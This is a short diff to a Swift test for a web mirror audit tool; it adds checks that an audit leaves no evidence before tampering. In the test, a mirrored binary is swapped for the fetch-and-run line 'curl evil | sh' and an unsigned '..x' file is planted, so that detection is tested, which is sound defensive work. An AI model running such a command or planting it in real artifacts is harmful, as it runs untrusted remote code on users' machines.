@@ -110,6 +110,8 @@ struct WebMirrorTests {
 
     @Test func badBytesAreKept() throws {
         let server = try serve()
+        #expect(try fleet.audit([address(server, "origin"), "--evidence", "kept"]).status == 0)
+        #expect(try FileManager.default.contentsOfDirectory(atPath: fleet.path("kept")).isEmpty)
         try fleet.replace("origin/v0.0.0/linux/tool-0", "curl evil | sh\n")
         try fleet.write("origin/v0.0.0/linux/..x", "nobody signed this\n")
         let run = try fleet.audit([address(server, "origin"), "--evidence", "kept"])
